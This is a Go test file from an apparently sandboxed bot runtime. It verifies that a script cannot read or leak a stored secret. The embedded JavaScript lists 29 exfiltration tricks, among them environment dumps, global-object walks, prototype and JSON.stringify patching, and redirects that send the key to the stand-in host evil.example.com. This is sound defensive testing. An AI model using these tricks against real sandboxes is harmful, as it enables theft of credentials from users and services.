package bot_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/flora-runtime/flora-runtime/pkg/bot"
	"github.com/flora-runtime/flora-runtime/pkg/egress"
	"github.com/flora-runtime/flora-runtime/pkg/egress/egresstest"
	"github.com/flora-runtime/flora-runtime/pkg/secret"
	"github.com/flora-runtime/flora-runtime/pkg/secret/secrettest"
	"github.com/flora-runtime/flora-runtime/pkg/snowflake"
	"github.com/flora-runtime/flora-runtime/pkg/wire"
	"github.com/flora-runtime/flora-runtime/v8ops/fetch"
)

// sealed is an environment of secrets alone.
type sealed struct{ *secret.Service }

func (s sealed) Env(g snowflake.GuildID) []wire.Variable {
	var out []wire.Variable
	for name, mark := range s.Current(g).Placeholders() {
		out = append(out, wire.Variable{Name: name, Value: mark, Secret: true})
	}
	return out
}

func (sealed) ErrorReply(snowflake.GuildID) string { return "" }

var _ bot.Environment = sealed{}

// echo is a server that tells all it gets, and remembers it.
type echo struct {
	mu   sync.Mutex // Guards seen.
	seen []string
}

func (e *echo) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		panic(http.ErrAbortHandler)
	}
	e.mu.Lock()
	e.seen = append(e.seen, r.Host+" "+r.RequestURI+" "+strings.Join(r.Header["X-Key"], ",")+" "+r.Header.Get("Authorization")+" "+string(body))
	e.mu.Unlock()
	w.Header().Set("X-Echo", r.Header.Get("X-Key"))
	switch r.URL.Path {
	case "/to":
		w.Header().Set("Location", r.URL.Query().Get("at"))
		w.WriteHeader(http.StatusTemporaryRedirect)
	case "/leak":
		http.Redirect(w, r, "https://evil.example.com/"+url.PathEscape(r.Header.Get("X-Key"))+"?k="+url.QueryEscape(r.Header.Get("X-Key")), http.StatusFound)
	case "/raw":
		_, _ = w.Write(body)
	default:
		_ = json.NewEncoder(w).Encode(map[string]any{"url": r.RequestURI, "headers": r.Header, "body": string(body)})
	}
}

func (e *echo) told(host, text string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, s := range e.seen {
		if strings.HasPrefix(s, host+" ") && strings.Contains(s, text) {
			return true
		}
	}
	return false
}

// tricks by which a script would read its secret. Each gives what it found.
const tricks = `
	const key = secrets.get("KEY"), api = "https://api.example.com", evil = "https://evil.example.com";
	const all = async (a) => JSON.stringify([a.url, [...a.headers], await a.text()]);
	const sent = (url, o) => fetch(url, o).then(all, (e) => [e.message, e.stack, e.cause?.message, JSON.stringify(e)].join());
	const json = { "content-type": "application/json" }, text = { "content-type": "text/plain" }, form = { "content-type": "application/x-www-form-urlencoded" };
	const tricks = {
		get: () => key,
		env: () => JSON.stringify(Deno.env.toObject()),
		walk: () => { const seen = new Set(), out = []; (function go(o, n) { if (n > 6 || o === null || !["object", "function"].includes(typeof o) || seen.has(o)) return; seen.add(o);
			for (const k of Reflect.ownKeys(o)) { out.push(String(k)); let v; try { v = o[k]; } catch (e) { v = e.message; } if (typeof v === "string") out.push(v); go(v, n + 1); } })(globalThis, 0); return out.join(); },
		header: () => sent(api, { headers: { "x-key": key } }),
		twice: () => sent(api, { headers: { "x-key": key + key } }),
		basic: () => sent(api, { headers: { authorization: "Basic " + btoa("u:" + key) } }),
		path: () => sent(api + "/x/" + key),
		query: () => sent(api + "/?k=" + key),
		params: () => sent(api + "/?" + new URLSearchParams({ k: key })),
		text: () => sent(api + "/raw", { method: "POST", body: key, headers: text }),
		json: () => sent(api + "/raw", { method: "POST", body: JSON.stringify({ k: key, nested: JSON.stringify({ k: key }) }), headers: json }),
		form: () => sent(api + "/raw", { method: "POST", body: new URLSearchParams({ k: key }), headers: form }),
		bytes: () => sent(api + "/raw", { method: "POST", body: new TextEncoder().encode(key), headers: text }),
		elsewhere: () => sent(evil, { headers: { "x-key": key } }),
		http: () => sent("http://api.example.com/", { headers: { "x-key": key } }),
		redirect: () => sent(api + "/to?at=" + evil, { headers: { "x-key": key } }),
		manual: () => sent(api + "/leak", { redirect: "manual", headers: { "x-key": key } }),
		leak: () => sent(api + "/leak", { headers: { "x-key": key } }),
		host: () => sent("https://" + key + ".example.com/"),
		user: () => sent("https://" + key + "@api.example.com/"),
		port: () => sent("https://api.example.com:" + key + "/"),
		scheme: () => sent(key + "://api.example.com/"),
		error: () => { try { throw new Error(key); } catch (e) { return e.stack; } },
		request: () => { const r = new Request(api + "/?k=" + key, { headers: { "x-key": key } }); return r.url + [...r.headers]; },
		patched: async () => { const seen = []; const real = JSON.stringify; JSON.stringify = (v) => { seen.push(real(v)); return real(v); }; const p = String.prototype.replace; String.prototype.replace = function (...a) { seen.push(String(this)); return p.apply(this, a); };
			try { seen.push(await sent(api, { headers: { "x-key": key } })); } finally { JSON.stringify = real; String.prototype.replace = p; } return seen.join(); },
		prototype: async () => { const seen = []; Object.defineProperty(Object.prototype, "x-key", { configurable: true, set(v) { seen.push(v); } }); try { seen.push(await sent(api, { headers: { "x-key": key } })); } finally { delete Object.prototype["x-key"]; } return seen.join(); },
		guess: () => sent(api + "/raw", { method: "POST", body: "__FLORA_SECRET__:00000000-0000-4000-8000-000000000000:000000000000", headers: text }),
		kept: async () => { await sent(api + "/raw", { method: "POST", body: key, headers: text }); return kv.store("s").get("never").catch(String); },
		theirs: () => sent(api, { headers: { "x-key": THEIRS } }),
	};
	on("messageCreate", async () => {
		for (const [name, f] of Object.entries(tricks)) { let got; try { got = await f(); } catch (e) { got = e.stack; } console.log("trick " + name, String(got)); }
		console.log("done", key);
		throw new Error("at last " + key);
	});`

func TestAScriptCannotReadItsSecret(t *testing.T) {
	t.Parallel()
	const value = `tr1cky/+&=?#%"\ <value>`
	net, e := egresstest.New(), &echo{}
	net.ServeTLS(t, "93.184.216.34:443", "api.example.com", e)
	net.Name("evil.example.com", "93.184.216.34")
	net.Serve(t, "93.184.216.34:80", "", e)
	service := secrettest.Service(t, &secrettest.Memory{})
	put := func(guild snowflake.GuildID, value string) string {
		if _, err := service.Put(context.Background(), guild, "KEY", secret.Input{Value: value, AllowedHosts: []string{"api.example.com"}}); err != nil {
			t.Fatal(err)
		}
		return service.Current(guild).Placeholders()["KEY"]
	}
	put(guildA, value)
	theirs := put(guildB, "the neighbour's own")
	client := egress.New(egress.Config{Limits: egress.DefaultLimits(), UserAgent: "Flora/test", Resolver: net, Dial: net.Dial, Roots: net.Roots(), Secrets: service.Current})
	t.Cleanup(client.Close)
	w := newWorld(t, options{ops: fetch.Ops(client), env: sealed{service}, launch: processes(t)})
	quoted, err := json.Marshal(theirs)
	if err != nil {
		t.Fatal(err)
	}
	w.ops.release("never")
	w.deploy(guildA, strings.Replace(tricks, "THEIRS", string(quoted), 1))
	w.message(guildA, "go")
	w.wait(guildA, 1, "dispatch failed: Error: at last "+secret.Prefix)
	bad := []string{value, "tr1cky", url.QueryEscape(value), base64.StdEncoding.EncodeToString([]byte("u:" + value)), "the neighbour's own"}
	n := 0
	for _, line := range w.lines(guildA) {
		if strings.HasPrefix(line, "trick ") {
			n++
		}
		for _, b := range bad {
			if strings.Contains(line, b) {
				t.Errorf("the script reads %q: %.600s", b, line)
			}
		}
	}
	if n != 29 {
		t.Errorf("%d tricks were tried", n)
	}
	// The secret was really sent to where it may go, and nowhere else.
	if !e.told("api.example.com", "tr1cky") {
		t.Error("the allowed host was never told the secret: the tricks prove nothing")
	}
	if e.told("evil.example.com", "tr1cky") || e.told("api.example.com", "neighbour's own") {
		t.Error("the secret went where it may not go")
	}
}
